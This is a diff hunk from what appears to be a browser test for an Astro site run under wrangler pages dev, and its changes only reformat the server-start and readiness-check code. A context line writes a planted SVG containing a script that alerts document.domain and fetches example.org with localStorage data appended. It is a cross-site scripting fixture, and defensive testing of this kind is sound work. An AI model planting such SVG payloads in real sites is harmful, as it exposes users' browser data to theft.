@@ -24,13 +24,20 @@ test.beforeAll(async () => {
     join(site, 'dist/_astro/planted.svg'),
     `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain);fetch('https://example.org/?'+localStorage.length)</script><rect width="9" height="9"/></svg>`,
   );
-  server = spawn(join(root, 'node_modules/.bin/wrangler'), ['pages', 'dev', 'dist', '--ip', '127.0.0.1', '--port', String(PORT), '--compatibility-date=2026-05-01'], {
-    cwd: site,
-    env: { ...process.env, WRANGLER_SEND_METRICS: 'false', CI: '1' },
-    stdio: 'ignore',
-  });
+  server = spawn(
+    join(root, 'node_modules/.bin/wrangler'),
+    ['pages', 'dev', 'dist', '--ip', '127.0.0.1', '--port', String(PORT), '--compatibility-date=2026-05-01'],
+    {
+      cwd: site,
+      env: { ...process.env, WRANGLER_SEND_METRICS: 'false', CI: '1' },
+      stdio: 'ignore',
+    },
+  );
   for (let tries = 0; ; tries++) {
-    const ok = await fetch(`${origin}/da/`).then((r) => r.ok, () => false);
+    const ok = await fetch(`${origin}/da/`).then(
+      (r) => r.ok,
+      () => false,
+    );
     if (ok) break;
     if (tries > 120) throw new Error('wrangler pages dev did not start');
     await new Promise((resolve) => setTimeout(resolve, 500));
